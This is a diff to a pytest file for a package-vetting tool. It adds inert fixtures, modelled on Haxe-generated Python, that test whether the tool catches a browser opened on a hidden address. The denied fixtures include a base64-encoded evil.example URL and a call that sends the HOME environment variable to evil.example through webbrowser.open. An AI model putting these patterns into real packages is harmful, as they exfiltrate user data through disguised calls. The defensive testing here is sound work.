@@ -2,7 +2,9 @@
 each beside the malicious shape next to it (ADR 0135).
 
 Every sample is inert and made here (vetting only reads files): a tracer that names
-PyArmor's markers to skip obfuscated functions, beside PyArmor's real bootstrap."""
+PyArmor's markers to skip obfuscated functions, beside PyArmor's real bootstrap; a module
+Haxe generated, whose every import is ``__import__('name')``, showing a page in a browser,
+beside a browser opened on an address written, decoded or opened on import."""
 
 from __future__ import annotations
 
@@ -62,3 +64,46 @@ def test_only_code_counts_as_pyarmor() -> None:
     assert not is_pyarmor_code(TRACER)
     assert is_pyarmor_code(PYARMOR8)
     assert is_pyarmor_code(PYARMOR7)
+
+
+# daff 1.4.2 (Haxe's Python target), abridged: a diff written to a temporary file and shown.
+SHOWN = (
+    "class TableIO:\n"
+    "    def sendToBrowser(self, html):\n"
+    "        f = __import__('tempfile').NamedTemporaryFile('wb', delete=False, suffix='.html')\n"
+    "        f.write(html.encode('utf-8', 'strict'))\n"
+    "        f.close()\n"
+    "        __import__('webbrowser').open({url})\n"
+)
+DECODED_URL = "__import__('base64').b64decode('aHR0cHM6Ly9ldmlsLmV4YW1wbGUveA==').decode()"
+ON_IMPORT = "import tempfile\nf = tempfile.NamedTemporaryFile('wb', delete=False)\n"
+
+BROWSER_DENIED: Mapping[str, Mapping[str, str]] = {
+    "decoded-address-opened-when-called": init(SHOWN.format(url=DECODED_URL)),
+    "environment-sent-through-the-browser": init(
+        SHOWN.format(url="'https://evil.example/?' + __import__('os').environ['HOME']")
+    ),
+    "decoded-address-opened-on-import": init(f"__import__('webbrowser').open({DECODED_URL})\n"),
+    "page-opened-on-import": init(
+        f"{ON_IMPORT}__import__('webbrowser').open('file://' + f.name)\n"
+    ),
+}
+BROWSER_HELD: Mapping[str, Mapping[str, str]] = {
+    "written-address-opened-when-called": init(SHOWN.format(url="'https://evil.example/x'")),
+    "decoded-file-url-opened-when-called": init(
+        SHOWN.format(url="'file://' + __import__('base64').b64decode('L3RtcC94').decode()")
+    ),
+}
+BROWSER_ALLOWED: Mapping[str, Mapping[str, str]] = {
+    "haxe-module-shows-a-temporary-page": init(SHOWN.format(url="'file://' + f.name")),
+    "haxe-module-opens-the-callers-url": init(SHOWN.format(url="html")),
+}
+
+
+@pytest.mark.parametrize(
+    ("files", "expected"), verdict_cases(BROWSER_DENIED, BROWSER_HELD, BROWSER_ALLOWED)
+)
+def test_a_browser_reached_by_a_written_import_name_is_no_hidden_endpoint(
+    files: Mapping[str, str], expected: Outcome
+) -> None:
+    assert vet_package(files) is expected
